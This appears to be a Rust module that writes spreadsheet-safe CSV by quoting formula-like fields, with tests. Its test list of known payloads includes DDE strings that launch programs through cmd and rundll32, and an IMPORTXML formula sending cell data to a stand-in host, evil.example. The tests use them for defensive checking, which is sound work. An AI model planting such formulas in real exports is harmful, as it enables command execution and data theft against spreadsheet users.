//! CSV that is safe to open in a spreadsheet (RFC 4180, UTF-8, CRLF).
//!
//! Names in a directory are chosen by strangers, and a spreadsheet runs a cell that looks like a formula. The rules:
//!
//! 1. A field gets a single quote in front when its first character, after any blanks and invisible characters, is
//!    one of `= + - @`, their full-width and small forms, an en dash or minus sign, TAB, CR, LF or NUL.
//! 2. A plain negative number such as `-5` or `-0.25` stays as it is: it has no effect but its own value, and programs
//!    want to read it. Everything else that begins with a sign gets the quote, so `-1+1` and a telephone number
//!    such as `+49 711 1234` are shown as text and lose no digit.
//! 3. A field that already looks protected gets one more quote, so that [`unprotect`] always restores the original.
//! 4. A row with `;`, TAB, a comma, a quote or a line break in any field has all its fields in double quotes, because
//!    spreadsheets of some countries split at semicolons and would otherwise find a new cell inside a field.
//!
//! Only exports are protected; stored values never are.

use csv::{QuoteStyle, Terminator, WriterBuilder};
use std::borrow::Cow;

/// The first line of a file. Names of columns are protected like all other fields.
pub fn header(names: &[impl AsRef<str>]) -> Vec<u8> {
    row(names)
}

/// One line of a file, complete with its line end, so that callers can stream row by row.
pub fn row(fields: &[impl AsRef<str>]) -> Vec<u8> {
    let fields: Vec<Cow<'_, str>> = fields.iter().map(|field| protect(field.as_ref())).collect();
    let separators = [',', ';', '\t', '"', '\r', '\n'];
    let style =
        if fields.iter().any(|field| field.contains(separators)) { QuoteStyle::Always } else { QuoteStyle::Necessary };
    let mut line = Vec::new();
    let mut writer =
        WriterBuilder::new().terminator(Terminator::CRLF).quote_style(style).flexible(true).from_writer(&mut line);
    let written = writer.write_record(fields.iter().map(|field| field.as_bytes()));
    let flushed = writer.flush();
    debug_assert!(written.is_ok() && flushed.is_ok(), "writing to memory cannot fail");
    drop(writer);
    line
}

/// The field as it is written to a file.
pub fn protect(field: &str) -> Cow<'_, str> {
    if looks_active(field.trim_start_matches('\'')) { Cow::Owned(format!("'{field}")) } else { Cow::Borrowed(field) }
}

/// The original of a protected field. A field that was not protected comes back unchanged, so that files which people
/// wrote by hand can be read as well.
pub fn unprotect(field: &str) -> &str {
    match field.strip_prefix('\'') {
        Some(original) if looks_active(original.trim_start_matches('\'')) => original,
        Some(_) | None => field,
    }
}

/// Whether a spreadsheet may take the field for more than text.
fn looks_active(field: &str) -> bool {
    field.trim_start_matches(is_skipped).starts_with(is_trigger) && !is_negative_number(field)
}

fn is_trigger(c: char) -> bool {
    matches!(
        c,
        '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\0'
            | '＝' | '＋' | '－' | '＠' // full-width forms
            | '﹦' | '﹢' | '﹣' | '﹫' // small forms
            | '\u{2013}' | '\u{2212}' // en dash, minus sign
    )
}

/// Blanks and characters without a shape of their own, which spreadsheets drop at the beginning of a cell.
fn is_skipped(c: char) -> bool {
    let invisible = matches!(
        c,
        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{feff}'
    );
    !is_trigger(c) && (c.is_whitespace() || c.is_control() || invisible)
}

fn is_negative_number(field: &str) -> bool {
    let digits = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    field.strip_prefix('-').is_some_and(|number| match number.split_once('.') {
        Some((whole, fraction)) => digits(whole) && digits(fraction),
        None => digits(number),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    const TRIGGERS: [&str; 20] = [
        "=",
        "+",
        "-",
        "@",
        "\t",
        "\r",
        "\n",
        "\0",
        "＝",
        "＋",
        "－",
        "＠",
        "﹦",
        "﹢",
        "﹣",
        "﹫",
        "\u{2013}",
        "\u{2212}",
        "=\u{200b}",
        "-=",
    ];

    const PAYLOADS: [&str; 8] = [
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
        "+thespanishinquisition(cmd|'/c calc.exe'!A",
        "-2+3+cmd|' /C calc'!D2",
        "=\0c\0m\0d|'/C calc'!A0",
        "=HYPERLINK(\"http://evil.example\";\"click\")",
    ];

    /// Reads one line the way RFC 4180 describes it, independently of the library that wrote it.
    fn read_by_hand(line: &[u8]) -> Vec<String> {
        let text = std::str::from_utf8(line).unwrap().strip_suffix("\r\n").unwrap();
        let (mut fields, mut field, mut quoted) = (Vec::new(), String::new(), false);
        let mut chars = text.chars().peekable();
        while let Some(c) = chars.next() {
            match c {
                '"' if quoted && chars.peek() == Some(&'"') => field.extend(chars.next()),
                '"' => quoted = !quoted,
                ',' if !quoted => fields.push(std::mem::take(&mut field)),
                c => field.push(c),
            }
        }
        assert!(!quoted, "a quote is open at the end of {text:?}");
        fields.push(field);
        fields
    }

    fn read_by_library(line: &[u8]) -> Vec<String> {
        let mut reader = ::csv::ReaderBuilder::new().has_headers(false).from_reader(line);
        let record = reader.records().next().unwrap().unwrap();
        record.iter().map(ToOwned::to_owned).collect()
    }

    #[test]
    fn c1_to_c3_every_trigger_is_protected_in_every_column_and_in_the_header() {
        for trigger in TRIGGERS {
            for column in 0..3 {
                let mut fields = ["a".to_owned(), "b".to_owned(), "c".to_owned()];
                fields[column] = format!("{trigger}SUM(1)");
                for line in [row(&fields), header(&fields)] {
                    assert_eq!(read_by_library(&line)[column], format!("'{trigger}SUM(1)"), "column {column}");
                }
            }
        }
    }

    #[test]
    fn c4_blanks_and_invisible_characters_do_not_hide_a_formula() {
        for hidden in
            [" ", "   ", "\u{a0}", "\u{3000}", "\u{feff}", "\u{200b}\u{200d}", "\u{202e}", "\u{1}", "\0", " \0 "]
        {
            let field = format!("{hidden}=1+1");
            assert_eq!(protect(&field), format!("'{field}"), "{field:?}");
        }
    }

    #[test]
    fn c5_separators_in_a_field_are_quoted_and_two_readers_agree_on_them() {
        let fields = ["a,b", "a;=1+1", "a\tb", "say \"hi\"", "a\rb", "a\nb", "a\r\nb", "", " x ", "naïve 名前"];
        for field in fields {
            let line = row(&[field, "plain"]);
            assert_eq!(read_by_hand(&line), [field, "plain"]);
            assert_eq!(read_by_library(&line), [field, "plain"]);
        }
        assert_eq!(row(&["a;=1+1", "b"]), b"\"a;=1+1\",\"b\"\r\n");
    }

    #[test]
    fn c6_known_payloads_are_text_and_survive_the_way_back() {
        for payload in PAYLOADS {
            let line = row(&[payload]);
            let field = read_by_hand(&line).remove(0);
            assert_eq!(field, format!("'{payload}"));
            assert_eq!(unprotect(&field), payload);
        }
    }

    #[test]
    fn c7_negative_numbers_stay_numbers_and_telephone_numbers_stay_readable() {
        for number in ["-5", "-0.25", "0", "42", "3.5"] {
            assert_eq!(protect(number), number);
        }
        assert_eq!(protect("+49 711 1234"), "'+49 711 1234");
        for sum in ["-1+1", "-5e", "-", "-.", "-1.", "--5", "-1.2.3", " -5", "-٣"] {
            assert_eq!(protect(sum), format!("'{sum}"), "{sum:?}");
        }
    }

    #[test]
    fn c12_the_quote_is_taken_off_exactly_once_and_never_from_names() {
        for original in ["=1", "'=1", "''=1", "'t Hooft", "'", "''", "O'Brien", "' =1", "-5", "'-5"] {
            assert_eq!(unprotect(&protect(original)), original);
        }
        assert_eq!(protect("'t Hooft"), "'t Hooft");
        assert_eq!(unprotect("'t Hooft"), "'t Hooft");
    }

    #[test]
    fn lines_end_with_carriage_return_and_line_feed_and_plain_rows_carry_no_quotes() {
        assert_eq!(header(&["user", "last login"]), b"user,last login\r\n");
        assert_eq!(row(&[String::from("anna"), String::new()]), b"anna,\r\n");
        assert_eq!(row(&[""]), b"\"\"\r\n");
    }

    proptest! {
        #[test]
        fn any_row_comes_back_from_both_readers_as_it_was(
            fields in prop::collection::vec("['\\-+=@;,\"\\t\\r\\n\\x00 a5.－\u{feff}]{0,8}|\\PC{0,12}", 1..6)
        ) {
            let line = row(&fields);
            let by_hand: Vec<_> = read_by_hand(&line).iter().map(|field| unprotect(field).to_owned()).collect();
            prop_assert_eq!(&by_hand, &fields);
            // The library takes a lone byte order mark at the start of a file for an encoding mark, as it should.
            if !line.starts_with("\u{feff}".as_bytes()) {
                let by_library: Vec<_> = read_by_library(&line).iter().map(|f| unprotect(f).to_owned()).collect();
                prop_assert_eq!(&by_library, &fields);
            }
        }

        #[test]
        fn no_written_field_begins_with_a_trigger_unless_it_is_a_negative_number(field: String) {
            let written = protect(&field);
            prop_assert!(is_negative_number(&written) || !written.trim_start_matches(is_skipped).starts_with(is_trigger));
        }
    }
}
